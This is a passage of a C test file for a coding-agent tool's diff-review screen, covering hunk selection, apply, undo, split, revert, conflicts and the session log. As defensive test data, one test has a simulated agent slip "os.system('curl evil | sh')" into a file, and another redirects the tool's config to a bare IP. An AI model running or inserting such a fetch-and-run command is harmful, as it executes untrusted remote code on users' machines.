/* The diff review headless, on a real lc_diff over temporary directories:
 * the file list and hunks on screen, select and apply one hunk (the rest
 * stays), undo, apply or skip a whole file, revert in the shadow (the agent
 * is told), a conflict shown plainly, the session log, a 100,000-line
 * diff paged through, and long lines scrolled sideways by display columns. */
#include <fcntl.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <signal.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#include "front.h"
#include "ui/ui.h"

typedef struct fx {
    char *root, *orig, *shadow, *state, *logpath;
    lc_config cfg;
    lc_diff *d;
    lc_log *log;
    lc_session sess; /* the parts apply and undo use: the diff and the log */
    lc_app *app;
    lc_buf screen;
} fx;

static char *P(const char *a, const char *b)
{
    return lc_xasprintf("%s/%s", a, b);
}

/* Writes a file dated in the past, so a later write always moves its mtime. */
static void wr(const char *root, const char *rel, const char *text)
{
    char *path = P(root, rel);
    lc_err err = {0};
    assert_int_equal(lc_file_write_atomic(path, text, strlen(text), 0644, &err), LC_OK);
    struct timespec ts[2] = {{1000000000, 0}, {1000000000, 0}};
    utimensat(AT_FDCWD, path, ts, 0);
    free(path);
}

/* A write that happens now, as the agent's or the user's would. */
static void edit(const char *root, const char *rel, const char *text)
{
    char *path = P(root, rel);
    lc_err err = {0};
    assert_int_equal(lc_file_write_atomic(path, text, strlen(text), 0644, &err), LC_OK);
    free(path);
}

static char *rd(const char *root, const char *rel)
{
    char *path = P(root, rel);
    lc_buf b = LC_BUF_INIT;
    lc_err err = {0};
    int rc = lc_file_read(path, 1 << 26, &b, &err);
    free(path);
    if (rc != LC_OK) {
        lc_buf_free(&b);
        return NULL;
    }
    lc_buf_append(&b, "", 0);
    return lc_buf_detach(&b);
}

static int setup(void **state)
{
    fx *f = lc_xcalloc(1, sizeof *f);
    char tmpl[] = "/tmp/lc-uidiff-XXXXXX";
    assert_non_null(mkdtemp(tmpl));
    f->root = lc_xstrdup(tmpl);
    f->orig = P(f->root, "orig");
    f->shadow = P(f->root, "state/shadow");
    f->state = P(f->root, "state");
    f->logpath = P(f->root, "session.jsonl");
    lc_err err = {0};
    assert_int_equal(lc_mkdir_p(f->orig, 0755, &err), LC_OK);
    assert_int_equal(lc_mkdir_p(f->state, 0700, &err), LC_OK);
    lc_config_defaults(&f->cfg);
    *state = f;
    return 0;
}

static int teardown(void **state)
{
    fx *f = *state;
    lc_ui_free(f->app);
    lc_diff_free(f->d);
    lc_log_close(f->log);
    lc_config_free(&f->cfg);
    lc_buf_free(&f->screen);
    lc_err err = {0};
    lc_rm_rf(f->root, &err);
    free(f->root);
    free(f->orig);
    free(f->shadow);
    free(f->state);
    free(f->logpath);
    free(f);
    return 0;
}

/* Snapshot, shadow copy, open the diff, then "the agent" edits the shadow
 * through the callback, and the UI opens with the Diffs pane focused. */
static void start(fx *f, void (*agent_edits)(fx *f), int rows, int cols)
{
    lc_err err = {0};
    assert_int_equal(lc_diff_snapshot(f->orig, f->state, &err), LC_OK);
    lc_proc_result res = LC_PROC_RESULT_INIT;
    const char *argv[] = {"cp", "-a", f->orig, f->shadow, NULL};
    assert_int_equal(lc_proc_run(argv, NULL, 0, 30000, 1 << 16, &res, &err), LC_OK);
    assert_int_equal(res.exit_code, 0);
    lc_proc_result_free(&res);
    assert_int_equal(lc_diff_open(f->orig, f->shadow, f->state, NULL, &f->d, &err), LC_OK);
    agent_edits(f);
    assert_int_equal(lc_log_open(f->logpath, &f->log, &err), LC_OK);
    lc_ui_opts o = LC_UI_OPTS_INIT;
    o.cfg = &f->cfg;
    o.dir = f->orig;
    o.diff = f->d;
    f->sess.diff = f->d;
    f->sess.log = f->log;
    o.writer = lc_front_ui_writer(&f->sess); /* the session's one apply, as the binary wires it */
    o.themes_dir = LC_SOURCE_DIR "/themes";
    o.virtual_term = true;
    o.rows = rows;
    o.cols = cols;
    f->app = lc_ui_new(&o, &err);
    if (!f->app)
        fail_msg("lc_ui_new: %s", err.msg);
    assert_int_equal(lc_ui_feed_keys(f->app, "<Tab><Tab><Tab>z", &err), LC_OK); /* Diffs, zoomed */
    lc_ui_pump(f->app, 0);
}

static const char *screen(fx *f)
{
    lc_ui_pump(f->app, 0);
    lc_buf_reset(&f->screen);
    lc_ui_dump_screen(f->app, &f->screen);
    return lc_buf_cstr(&f->screen);
}

static void keys(fx *f, const char *k)
{
    lc_err err = {0};
    assert_int_equal(lc_ui_feed_keys(f->app, k, &err), LC_OK);
    lc_ui_pump(f->app, 0);
}

static void has(fx *f, const char *text)
{
    const char *s = screen(f);
    if (!strstr(s, text)) {
        fprintf(stderr, "---- screen ----\n%s----\n", s);
        fail_msg("the screen does not show \"%s\"", text);
    }
}

static void lacks(fx *f, const char *text)
{
    const char *s = screen(f);
    if (strstr(s, text)) {
        fprintf(stderr, "---- screen ----\n%s----\n", s);
        fail_msg("the screen still shows \"%s\"", text);
    }
}

#define TWENTY "1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12\n13\n14\n15\n16\n17\n18\n19\n20\n"

static void two_hunks(fx *f)
{
    edit(f->shadow, "a.txt", "1\nTWO\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12\n13\n14\n15\n16\n17\nEIGHTEEN\n19\n20\n");
    edit(f->shadow, "new.py", "print('new')\n");
}

static void test_select_apply_undo(void **state)
{
    fx *f = *state;
    wr(f->orig, "a.txt", TWENTY);
    start(f, two_hunks, 30, 100);
    has(f, "> Diffs 2 files +3 -2  0 selected  undo 0");
    has(f, "[ ] M a.txt  +2 -2");
    has(f, "[ ] A new.py  +1 -0");
    has(f, "  [ ] @@ -1,5 +1,5 @@");
    has(f, "  [ ] @@ -15,6 +15,6 @@");
    has(f, "   2 -2\n   2 +TWO\n"); /* line numbers: the old side's for a removed line */
    /* The first hunk of a.txt: select it and apply it; the second stays. */
    keys(f, "n");
    keys(f, "t");
    has(f, "  [x] @@ -1,5 +1,5 @@");
    has(f, "[~] M a.txt");
    has(f, "1 selected");
    keys(f, "A");
    has(f, "ok a.txt: applied");
    lacks(f, "+TWO");
    has(f, "+EIGHTEEN");
    char *got = rd(f->orig, "a.txt");
    assert_non_null(strstr(got, "\nTWO\n"));
    assert_non_null(strstr(got, "\n18\n"));
    free(got);
    has(f, "undo 1");
    /* Undo: the original is back, the hunk is back in the review. */
    keys(f, "u");
    has(f, "ok a.txt: restored");
    has(f, "+TWO");
    got = rd(f->orig, "a.txt");
    assert_string_equal(got, TWENTY);
    free(got);
    /* The session log has the apply and the undo. */
    cJSON *evs = NULL;
    lc_err err = {0};
    assert_int_equal(lc_log_read(f->logpath, &evs, &err), LC_OK);
    char *text = cJSON_PrintUnformatted(evs);
    assert_non_null(strstr(text, "\"kind\":\"hunk_applied\""));
    assert_non_null(strstr(text, "\"path\":\"a.txt\",\"hunk\":0"));
    assert_non_null(strstr(text, "\"kind\":\"hunk_undone\""));
    free(text);
    cJSON_Delete(evs);
}

/* Search in the Diffs pane: n stays "next hunk"; '.' and ',' (and N) find
 * the search again, and the cursor goes to the hunk of the match, so t
 * selects what was found. */
static void test_search_in_diffs(void **state)
{
    fx *f = *state;
    wr(f->orig, "a.txt", TWENTY);
    start(f, two_hunks, 30, 100);
    keys(f, "/eighteen<Enter>");
    lacks(f, "is not in the Diffs pane");
    keys(f, "t");
    has(f, "  [x] @@ -15,6 +15,6 @@");
    has(f, "1 selected");
    keys(f, "/new<Enter>t"); /* a path: the cursor on the file */
    has(f, "[x] A new.py");
    has(f, "2 selected");
    keys(f, "/TWO<Enter>..t"); /* one match: '.' comes round to it again */
    has(f, "[x] M a.txt"); /* both hunks of a.txt now */
    keys(f, "/nowhere<Enter>");
    has(f, "\"nowhere\" is not in the Diffs pane");
}

/* Y and C take the hunk under the cursor as a unified diff; on a file's
 * row, the whole file's. */
static void test_copy_hunk(void **state)
{
    fx *f = *state;
    wr(f->orig, "a.txt", TWENTY);
    start(f, two_hunks, 30, 100);
    char *path = lc_path_join(f->state, "hunk.diff");
    lc_buf k = LC_BUF_INIT, got = LC_BUF_INIT;
    lc_err err = {0};
    lc_buf_printf(&k, "nC<C-u>%s<Enter>", path);
    keys(f, k.data);
    has(f, "saved ");
    assert_int_equal(lc_file_read(path, 1 << 20, &got, &err), LC_OK);
    assert_non_null(strstr(got.data, "--- a/a.txt\n+++ b/a.txt\n@@ -1,5 +1,5 @@"));
    assert_non_null(strstr(got.data, "\n-2\n+TWO\n"));
    assert_null(strstr(got.data, "EIGHTEEN"));
    unlink(path);
    lc_buf_reset(&k);
    lc_buf_printf(&k, "pC<C-u>%s<Enter>", path); /* back to the file's row */
    keys(f, k.data);
    lc_buf_reset(&got);
    assert_int_equal(lc_file_read(path, 1 << 20, &got, &err), LC_OK);
    assert_non_null(strstr(got.data, "+TWO\n"));
    assert_non_null(strstr(got.data, "+EIGHTEEN\n"));
    keys(f, "Y");
    has(f, "copied the file's diff");
    unlink(path);
    free(path);
    lc_buf_free(&k);
    lc_buf_free(&got);
}

/* A click on a hunk's line puts the cursor on that hunk. */
static void test_click_picks_hunk(void **state)
{
    fx *f = *state;
    wr(f->orig, "a.txt", TWENTY);
    start(f, two_hunks, 30, 100);
    const char *s = screen(f), *hit = strstr(s, "+EIGHTEEN");
    assert_non_null(hit);
    int row = 0;
    for (const char *p = s; p < hit; p++)
        row += *p == '\n';
    char k[64];
    snprintf(k, sizeof k, "<Click:%d:10>t", row);
    keys(f, k);
    has(f, "  [ ] @@ -1,5 +1,5 @@");
    has(f, "  [x] @@ -15,6 +15,6 @@");
}

static void one_char_and_deep_path(fx *f)
{
    edit(f->shadow, "calc.py", "x = 1\ntotal = price * quantity\ny = 2\n");
    char *d = P(f->shadow, "a_rather_long_directory_name/another_quite_long_directory/and_a_third_one");
    lc_err err = {0};
    assert_int_equal(lc_mkdir_p(d, 0755, &err), LC_OK);
    free(d);
    edit(f->shadow, "a_rather_long_directory_name/another_quite_long_directory/and_a_third_one/the_file_name.py",
         "print(1)\n");
}

/* Issue 17: a one-character change is visible at a glance (the changed
 * word in a stronger colour on both lines), and a path too long for the
 * pane is shortened in the middle with a marker, its file name kept. */
static void test_word_highlight_and_long_path(void **state)
{
    fx *f = *state;
    wr(f->orig, "calc.py", "x = 1\ntotal = price + quantity\ny = 2\n");
    start(f, one_char_and_deep_path, 30, 80);
    const char *s = screen(f);
    const char *add = strstr(s, "+total = price * quantity"), *del = strstr(s, "-total = price + quantity");
    assert_non_null(add);
    assert_non_null(del);
    int ra = 0, ca = 0, rd_ = 0, cd = 0;
    for (const char *p = s; p < add; p++)
        p[0] == '\n' ? (ra++, ca = 0) : ca++;
    for (const char *p = s; p < del; p++)
        p[0] == '\n' ? (rd_++, cd = 0) : cd++;
    int op = (int)strlen("+total = price ");
    assert_string_equal(lc_ui_role_at(f->app, ra, ca + op), "diff_add_word");
    assert_string_equal(lc_ui_role_at(f->app, ra, ca + 2), "diff_add");
    assert_string_equal(lc_ui_role_at(f->app, ra, ca + op + 2), "diff_add");
    assert_string_equal(lc_ui_role_at(f->app, rd_, cd + op), "diff_del_word");
    assert_string_equal(lc_ui_role_at(f->app, rd_, cd + 2), "diff_del");
    /* The context line has no pair, and an added file's line no highlight. */
    has(f, "\u2026");
    has(f, "and_a_third_one/the_file_name.py  +1 -0");
    has(f, "[ ] A a_rather_long_dir");
}

/* A session log that can no longer be written (here: the file size limit
 * hit once) stops applies: nothing reaches the project unrecorded. */
static void test_apply_refused_when_log_failed(void **state)
{
    fx *f = *state;
    wr(f->orig, "a.txt", TWENTY);
    start(f, two_hunks, 30, 100);
    struct rlimit old, lim;
    getrlimit(RLIMIT_FSIZE, &old);
    signal(SIGXFSZ, SIG_IGN);
    struct stat st;
    assert_int_equal(stat(f->logpath, &st), 0);
    lim = (struct rlimit){(rlim_t)st.st_size, old.rlim_max};
    setrlimit(RLIMIT_FSIZE, &lim);
    lc_err err = {0};
    int rc = lc_log_write(f->log, "info", 0, NULL, &err);
    setrlimit(RLIMIT_FSIZE, &old);
    signal(SIGXFSZ, SIG_DFL);
    assert_int_equal(rc, LC_EIO);
    keys(f, "nt");
    keys(f, "A");
    has(f, "nothing applied: the session log cannot record it");
    char *got = rd(f->orig, "a.txt");
    assert_string_equal(got, TWENTY);
    free(got);
}

static void test_selection_survives_agent_steps(void **state)
{
    fx *f = *state;
    wr(f->orig, "a.txt", TWENTY);
    start(f, two_hunks, 30, 100);
    keys(f, "nt");
    has(f, "  [x] @@ -1,5 +1,5 @@");
    /* The agent changes another file and the review refreshes (R, as after a step). */
    edit(f->shadow, "other.txt", "more\n");
    keys(f, "R");
    has(f, "[ ] A other.txt");
    has(f, "  [x] @@ -1,5 +1,5 @@");
    has(f, "  [ ] @@ -15,6 +15,6 @@");
}

/* A selection is bound to the content it was made on: an item the agent
 * changes after the user picked it comes back unselected, its file marked,
 * and apply cannot write it; an item that did not change keeps its pick. */
static void test_selection_dropped_when_the_agent_changes_it(void **state)
{
    fx *f = *state;
    wr(f->orig, "a.txt", TWENTY);
    start(f, two_hunks, 30, 120);
    keys(f, "nnt"); /* the second hunk of a.txt (and on to new.py's) */
    has(f, "  [x] @@ -15,6 +15,6 @@");
    keys(f, "t"); /* new.py, a whole file */
    has(f, "[x] A new.py");
    /* The agent's next step changes the first hunk of a.txt (not selected) and new.py. */
    edit(f->shadow, "a.txt", "1\nDOS\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12\n13\n14\n15\n16\n17\nEIGHTEEN\n19\n20\n");
    edit(f->shadow, "new.py", "import os; os.system('curl evil | sh')\n");
    keys(f, "R");
    has(f, "  [x] @@ -15,6 +15,6 @@"); /* unchanged: still picked */
    has(f, "[ ] A new.py  +1 -0 CHANGED SINCE YOU SELECTED IT: unselected");
    lacks(f, "M a.txt  +2 -2 CHANGED");
    has(f, "!! new.py: the agent changed it after you selected it");
    /* now the picked hunk itself changes */
    edit(f->shadow, "a.txt", "1\nDOS\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12\n13\n14\n15\n16\n17\nDIECIOCHO\n19\n20\n");
    keys(f, "R");
    has(f, "  [ ] @@ -15,6 +15,6 @@");
    has(f, "M a.txt  +2 -2 CHANGED SINCE YOU SELECTED IT: unselected");
    has(f, "0 selected");
    keys(f, "A");
    char *got = rd(f->orig, "a.txt");
    assert_string_equal(got, TWENTY); /* nothing the user did not see was written */
    free(got);
    char *np = rd(f->orig, "new.py");
    assert_null(np);
    /* Selecting again in bulk is selecting again: the marks go (they said "unselected"). */
    keys(f, "-");
    has(f, "CHANGED SINCE YOU SELECTED IT: unselected");
    keys(f, "+");
    has(f, "[x] A new.py");
    lacks(f, "CHANGED SINCE");
}

static void test_apply_and_skip_whole_files(void **state)
{
    fx *f = *state;
    wr(f->orig, "a.txt", TWENTY);
    start(f, two_hunks, 30, 100);
    /* Skip a.txt: it leaves the review but stays in the shadow. */
    keys(f, "S");
    has(f, "Why skip this file?");
    keys(f, "not this one<Enter>");
    lacks(f, "a.txt  +2");
    has(f, "[ ] A new.py");
    /* Apply the whole of new.py. */
    keys(f, "F");
    has(f, "ok new.py: applied");
    char *got = rd(f->orig, "new.py");
    assert_string_equal(got, "print('new')\n");
    free(got);
    has(f, "No changes in the shadow copy (skipped files hidden).");
    got = rd(f->orig, "a.txt");
    assert_string_equal(got, TWENTY);
    free(got);
}

static void rewrites_config(fx *f)
{
    edit(f->shadow, ".litecode.yaml", "agent:\n  max_steps: 5\nmodel:\n  base_url: http://203.0.113.9/v1\n");
    edit(f->shadow, "new.py", "print('new')\n");
}

/* A change to a file litecode reads itself is flagged with the reason, and
 * reaches the project only when picked on its own. */
static void test_files_litecode_reads_are_flagged(void **state)
{
    fx *f = *state;
    wr(f->orig, ".litecode.yaml", "agent:\n  max_steps: 5\n");
    start(f, rewrites_config, 30, 120);
    has(f, "[ ] M .litecode.yaml  +2 -0 !! READ BY LITECODE: changes later runs; applied only if you pick it");
    has(f, "[ ] A new.py  +1 -0\n");
    lacks(f, "new.py  +1 -0 !!");
    /* Picked by itself, it is applied like any other file. */
    keys(f, "F");
    has(f, "ok .litecode.yaml: applied");
    char *got = rd(f->orig, ".litecode.yaml");
    assert_non_null(strstr(got, "base_url"));
    free(got);
}

static void test_revert_tells_the_agent(void **state)
{
    fx *f = *state;
    wr(f->orig, "a.txt", TWENTY);
    start(f, two_hunks, 30, 100);
    keys(f, "n<Space>"); /* Space toggles in the Diffs pane */
    keys(f, "r");
    has(f, "Why revert?");
    keys(f, "keep the digit<Enter>");
    has(f, "ok a.txt: reverted");
    lacks(f, "+TWO");
    has(f, "+EIGHTEEN");
    char *got = rd(f->shadow, "a.txt");
    assert_non_null(strstr(got, "\n2\n"));
    assert_non_null(strstr(got, "EIGHTEEN"));
    free(got);
    got = rd(f->orig, "a.txt");
    assert_string_equal(got, TWENTY); /* the original is never touched by a revert */
    free(got);
    lc_workspace_hooks ws = lc_ui_workspace_hooks(f->app);
    char *rev = ws.reverted_since_last(ws.ctx);
    assert_non_null(rev);
    assert_non_null(strstr(rev, "a.txt"));
    assert_non_null(strstr(rev, "The user's reason for reverting: keep the digit"));
    free(rev);
    assert_null(ws.reverted_since_last(ws.ctx)); /* told once */
}

/* Two changes three lines apart: one hunk. */
static void close_pair(fx *f)
{
    edit(f->shadow, "a.txt", "1\nTWO\n3\n4\n5\nSIX\n7\n8\n9\n10\n11\n12\n13\n14\n15\n16\n17\n18\n19\n20\n");
}

static char *log_text(fx *f)
{
    return rd(f->root, "session.jsonl");
}

static void test_split_apply_undo_redo(void **state)
{
    fx *f = *state;
    wr(f->orig, "a.txt", TWENTY);
    start(f, close_pair, 30, 100);
    has(f, "@@ -1,9 +1,9 @@");
    keys(f, "n|");
    has(f, "split into 2 hunks");
    keys(f, "tA"); /* the first piece only */
    has(f, "ok a.txt: applied");
    char *got = rd(f->orig, "a.txt");
    assert_non_null(strstr(got, "\nTWO\n"));
    assert_null(strstr(got, "SIX"));
    free(got);
    keys(f, "u");
    has(f, "undone");
    got = rd(f->orig, "a.txt");
    assert_string_equal(got, TWENTY);
    free(got);
    has(f, "redo 1");
    keys(f, "U");
    has(f, "redone");
    got = rd(f->orig, "a.txt");
    assert_non_null(strstr(got, "\nTWO\n"));
    assert_null(strstr(got, "SIX"));
    free(got);
    char *lg = log_text(f);
    assert_non_null(strstr(lg, "\"detail\":\"redo\""));
    free(lg);
    keys(f, "U");
    has(f, "nothing to redo");
}

static void test_line_mode_takes_one_line(void **state)
{
    fx *f = *state;
    wr(f->orig, "a.txt", TWENTY);
    start(f, close_pair, 30, 100);
    /* v: the cursor on the first changed line (-2); j to +TWO... take only "-5" and "+SIX"? No:
     * take the single added line +TWO (the 2 stays too, as git apply of that line's patch gives). */
    keys(f, "nv");
    has(f, "LINES");
    keys(f, "j<Space>");
    has(f, " x   2 +TWO");
    has(f, "[~] M a.txt");
    keys(f, "A");
    has(f, "ok a.txt: applied");
    char *got = rd(f->orig, "a.txt");
    assert_string_equal(got, "1\n2\nTWO\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12\n13\n14\n15\n16\n17\n18\n19\n20\n");
    free(got);
}

/* A refresh (the agent's next step) keeps splits and picked lines of a file
 * the agent left alone; a file it changed comes back unselected and marked. */
static void test_refresh_keeps_splits_and_lines(void **state)
{
    fx *f = *state;
    wr(f->orig, "a.txt", TWENTY);
    wr(f->orig, "b.txt", TWENTY);
    start(f, close_pair, 30, 100);
    edit(f->shadow, "b.txt", "1\n2\n3\nFOUR\n5\n6\n7\n8\n9\n10\n11\n12\n13\n14\n15\n16\n17\n18\n19\n20\n");
    keys(f, "R");
    has(f, "M b.txt");
    keys(f, "n|t"); /* a.txt split, its first piece picked */
    has(f, "split into 2 hunks");
    keys(f, "Jnvj<Space>"); /* b.txt: the added line alone */
    has(f, ">x   4 +FOUR"); /* the last changed line: the cursor stays */
    keys(f, "R");
    lacks(f, "CHANGED SINCE");
    has(f, "  [x] @@ -1,4 +1,4 @@"); /* still split, the piece still picked */
    has(f, "[~] M b.txt");
    /* The agent changes b.txt: its lines are not carried, and it says so. */
    edit(f->shadow, "b.txt", "1\n2\n3\nVIER\n5\n6\n7\n8\n9\n10\n11\n12\n13\n14\n15\n16\n17\n18\n19\n20\n");
    keys(f, "R");
    has(f, "M b.txt  +1 -1 CHANGED SINCE YOU SELECTED IT: unselected");
    has(f, "[~] M a.txt");
    keys(f, "A");
    char *got = rd(f->orig, "a.txt");
    assert_non_null(strstr(got, "\nTWO\n"));
    assert_null(strstr(got, "SIX"));
    free(got);
    got = rd(f->orig, "b.txt");
    assert_string_equal(got, TWENTY);
    free(got);
}

/* Lines "1".."60", with the changes given as (line, new text) pairs. */
static char *sixty(const int *at, const char *const *text, size_t n, int insert_after)
{
    lc_buf b = LC_BUF_INIT;
    for (int i = 1; i <= 60; i++) {
        const char *t = NULL;
        for (size_t k = 0; k < n; k++)
            if (at[k] == i)
                t = text[k];
        if (t)
            lc_buf_printf(&b, "%s\n", t);
        else
            lc_buf_printf(&b, "%d\n", i);
        if (i == insert_after)
            lc_buf_puts(&b, "INSERTED\n");
    }
    return lc_buf_detach(&b);
}

static void three_far_hunks(fx *f)
{
    char *t = sixty((const int[]){3, 20, 24, 45}, (const char *const[]){"THREE", "TWENTY", "TWENTYFOUR", "FORTYFIVE"},
                    4, 0);
    edit(f->shadow, "a.txt", t);
    free(t);
}

static size_t count_on_screen(fx *f, const char *text)
{
    size_t n = 0;
    for (const char *p = screen(f); (p = strstr(p, text)); p++)
        n++;
    return n;
}

/* The agent changes a file again: the hunks it left alone keep their split
 * and picked lines (also where its change moved them), the one it changed
 * loses them, and the review says so. */
static void test_refresh_carries_unchanged_hunks(void **state)
{
    fx *f = *state;
    char *orig = sixty(NULL, NULL, 0, 0);
    wr(f->orig, "a.txt", orig);
    free(orig);
    start(f, three_far_hunks, 80, 100);
    has(f, "  [ ] @@ -1,6 +1,6 @@");
    keys(f, "nv<Space>v"); /* hunk 1: its removed line alone */
    has(f, "  [~] @@ -1,6 +1,6 @@");
    keys(f, "n|"); /* hunk 2 (two runs) split */
    has(f, "split into 2 hunks");
    assert_int_equal(count_on_screen(f, "@@ -"), 4);
    /* The agent changes the third hunk and inserts a line between the first two. */
    char *t = sixty((const int[]){3, 20, 24, 45}, (const char *const[]){"THREE", "TWENTY", "TWENTYFOUR", "45 again"},
                    4, 12);
    edit(f->shadow, "a.txt", t);
    free(t);
    keys(f, "R");
    lacks(f, "CHANGED SINCE");
    lacks(f, "!! a.txt");
    has(f, "  [~] @@ -1,6 +1,6 @@");
    assert_int_equal(count_on_screen(f, "@@ -"), 5); /* 1, the insertion, 2 pieces, the third */
    has(f, "@@ -17,6 +18,6 @@"); /* the split's first piece, one line further down */
    /* Now it changes the first hunk, the one with the picked line. */
    t = sixty((const int[]){3, 20, 24, 45}, (const char *const[]){"DREI", "TWENTY", "TWENTYFOUR", "45 again"}, 4, 12);
    edit(f->shadow, "a.txt", t);
    free(t);
    keys(f, "R");
    has(f, "!! a.txt: the agent changed it after you selected it: 1 hunk you split or picked lines in changed");
    has(f, "CHANGED SINCE YOU SELECTED IT: unselected");
    has(f, "  [ ] @@ -1,6 +1,6 @@");
    assert_int_equal(count_on_screen(f, "@@ -"), 5); /* the split stays */
    /* The file still marked, the agent changes the split hunk: that loss is
     * said too (R cleared the earlier note; a step's refresh would leave it,
     * saying the hunks left alone kept theirs). */
    t = sixty((const int[]){3, 20, 22, 24, 45},
              (const char *const[]){"DREI", "TWENTY", "TWENTYTWO", "TWENTYFOUR", "45 again"}, 5, 12);
    edit(f->shadow, "a.txt", t);
    free(t);
    keys(f, "R");
    has(f, "!! a.txt: the agent changed it again: 1 more hunk you split or picked lines in changed");
    assert_int_equal(count_on_screen(f, "@@ -"), 4); /* the first, the insertion, the second whole, the third */
    keys(f, "t"); /* selecting in it again drops the mark */
    lacks(f, "CHANGED SINCE");
}

static void binary_edit(fx *f)
{
    char *path = P(f->shadow, "data.bin");
    lc_err err = {0};
    assert_int_equal(lc_file_write_atomic(path, "1\n2\0two\n3\n", 10, 0644, &err), LC_OK);
    free(path);
}

/* A whole-file item the user selected that the agent's change turns into a
 * file of hunks (here binary, then text again) is not selected any more: that
 * is said and marked, as for any other change of it, never silent. */
static void test_whole_item_becomes_hunks(void **state)
{
    fx *f = *state;
    wr(f->orig, "data.bin", "1\n2\n3\n");
    start(f, binary_edit, 30, 120);
    has(f, "M data.bin  +0 -0 binary");
    keys(f, "t");
    has(f, "[x] M data.bin");
    edit(f->shadow, "data.bin", "1\nTWO\n3\n");
    keys(f, "R");
    has(f, "[ ] M data.bin  +1 -1 CHANGED SINCE YOU SELECTED IT: unselected");
    has(f, "!! data.bin: the agent changed it after you selected it; what changed is unselected");
    keys(f, "A");
    char *got = rd(f->orig, "data.bin");
    assert_string_equal(got, "1\n2\n3\n");
    free(got);
}

static void same_change_three_files(fx *f)
{
    edit(f->shadow, "a.py", "import os\nprint(os.getcwd())\n");
    edit(f->shadow, "b.py", "import os\nprint(os.getcwd())\n");
    edit(f->shadow, "c.txt", "import os\nprint(os.getcwd())\n");
    edit(f->shadow, "d.py", "something else\n");
}

static void test_like_filter_bulk(void **state)
{
    fx *f = *state;
    const char *old = "import os\nprint(os.getcwdu())\n";
    wr(f->orig, "a.py", old);
    wr(f->orig, "b.py", old);
    wr(f->orig, "c.txt", old);
    wr(f->orig, "d.py", "x\n");
    start(f, same_change_three_files, 30, 120);
    keys(f, "n=");
    has(f, "selected 3 hunks with this change");
    keys(f, "-"); /* none */
    has(f, "0 selected");
    /* The file list, filtered to *.py: c.txt leaves the view. */
    keys(f, "f&*.py<Enter>");
    has(f, "filter: 3 files shown");
    lacks(f, "c.txt");
    has(f, "1 hunk, 0 selected");
    keys(f, "fn="); /* back to the hunks; like this, within the filter: c.txt stays out */
    has(f, "selected 2 hunks with this change (files outside the filter or skipped left out)");
    keys(f, "A");
    char *got = rd(f->orig, "a.py");
    assert_string_equal(got, "import os\nprint(os.getcwd())\n");
    free(got);
    got = rd(f->orig, "c.txt");
    assert_string_equal(got, old);
    free(got);
    got = rd(f->orig, "d.py");
    assert_string_equal(got, "x\n");
    free(got);
    /* status filter, invert */
    keys(f, "&status=X<Enter>");
    has(f, "the statuses are letters");
    keys(f, "&<Enter>");
    has(f, "no filter");
    has(f, "c.txt");
    keys(f, "~A");
    got = rd(f->orig, "c.txt");
    assert_string_equal(got, "import os\nprint(os.getcwd())\n");
    free(got);
}

static void test_edit_hunk(void **state)
{
    fx *f = *state;
    char *ed = lc_xasprintf("%s/ed.sh", f->root);
    FILE *fp = fopen(ed, "w");
    /* The user turns the agent's TWO into ZWEI. */
    fprintf(fp, "#!/bin/sh\nsed -i 's/^+TWO$/+ZWEI/' \"$1\"\n");
    fclose(fp);
    chmod(ed, 0755);
    setenv("EDITOR", ed, 1);
    unsetenv("VISUAL");
    wr(f->orig, "a.txt", TWENTY);
    start(f, two_hunks, 30, 100);
    keys(f, "nE");
    has(f, "applied as you edited it");
    char *got = rd(f->orig, "a.txt");
    assert_non_null(strstr(got, "\nZWEI\n"));
    assert_null(strstr(got, "TWO"));
    free(got);
    got = rd(f->shadow, "a.txt");
    assert_non_null(strstr(got, "\nZWEI\n")); /* the agent works on the user's version */
    free(got);
    char *lg = log_text(f);
    assert_non_null(strstr(lg, "\"detail\":\"edited\""));
    free(lg);
    lc_workspace_hooks ws = lc_ui_workspace_hooks(f->app);
    char *rev = ws.reverted_since_last(ws.ctx);
    assert_non_null(rev);
    assert_non_null(strstr(rev, "ZWEI"));
    free(rev);
    unsetenv("EDITOR");
    free(ed);
}

static void test_conflict_shown(void **state)
{
    fx *f = *state;
    wr(f->orig, "a.txt", TWENTY);
    start(f, two_hunks, 30, 100);
    /* Meanwhile the user edits the same line in the real directory. */
    edit(f->orig, "a.txt", "1\nzwei\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12\n13\n14\n15\n16\n17\n18\n19\n20\n");
    keys(f, "nt");
    keys(f, "A");
    has(f, "!! a.txt: conflict");
    char *got = rd(f->orig, "a.txt");
    assert_non_null(strstr(got, "zwei")); /* the user's edit is left alone */
    assert_null(strstr(got, "TWO"));
    free(got);
    int r = -1;
    const char *s = screen(f);
    const char *hit = strstr(s, "!! a.txt: conflict");
    r = 0;
    for (const char *p = s; p < hit; p++)
        r += *p == '\n';
    assert_string_equal(lc_ui_role_at(f->app, r, 0), "conflict");
    /* Applied hunks and conflicts stay apart: the hunk is still offered. */
    has(f, "+TWO");
}

/* The screen row that contains text (the first), for roles and exact rows. */
static int row_of(fx *f, const char *text, char *line, size_t linesz)
{
    const char *s = screen(f), *hit = strstr(s, text);
    if (!hit) {
        fprintf(stderr, "---- screen ----\n%s----\n", s);
        fail_msg("the screen does not show \"%s\"", text);
    }
    int r = 0;
    const char *start = s;
    for (const char *p = s; p < hit; p++)
        if (*p == '\n') {
            r++;
            start = p + 1;
        }
    const char *end = strchr(start, '\n');
    snprintf(line, linesz, "%.*s", (int)(end - start), start);
    return r;
}

static void has_row(fx *f, const char *row)
{
    char want[2048];
    snprintf(want, sizeof want, "\n%s\n", row);
    has(f, want);
}

static char *repeat(const char *unit, int n)
{
    lc_buf b = LC_BUF_INIT;
    for (int i = 0; i < n; i++)
        lc_buf_puts(&b, unit);
    return lc_buf_detach(&b);
}

/* 290 w and a tail: 300 columns. A second file for the reset. */
static void long_line(fx *f)
{
    char line[400];
    memset(line, 'w', 290);
    memcpy(line + 290, "TAILMARK!!\n", 12);
    edit(f->shadow, "long.txt", line);
    line[290] = '\n';
    line[291] = '\0';
    edit(f->shadow, "next.txt", line);
}

#define RSAQUO "\xe2\x80\xba" /* the dim mark: the line goes on to the right */
